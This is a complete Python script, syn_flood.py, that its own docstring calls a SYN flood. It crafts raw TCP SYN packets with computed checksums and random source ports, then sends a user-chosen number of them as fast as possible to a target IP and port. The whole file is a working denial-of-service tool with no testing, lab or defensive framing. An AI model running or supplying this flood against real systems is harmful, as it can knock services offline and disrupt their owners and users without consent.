# SPDX-License-Identifier: MIT
"""Send COUNT bare SYNs to IP:PORT from this host's address SRC, from
random source ports, through a raw socket, as fast as they go (a SYN
flood). Their SYN-ACKs, if any come, meet this kernel's resets.
Usage: syn_flood.py SRC IP PORT COUNT"""
import random, socket, struct, sys

src, dst, port, count = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])


def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack(f"!{len(b) // 2}H", b))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
sip, dip = socket.inet_aton(src), socket.inet_aton(dst)
for _ in range(count):
    sport = random.randint(1024, 65535)
    seq = random.getrandbits(32)
    hdr = struct.pack("!HHIIBBHHH", sport, port, seq, 0, 5 << 4, 0x02, 64240, 0, 0)
    pseudo = sip + dip + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(hdr))
    hdr = hdr[:16] + struct.pack("!H", csum(pseudo + hdr)) + hdr[18:]
    s.sendto(hdr, (dst, 0))
print(f"syn flood: {count} SYNs sent to {dst}:{port}")
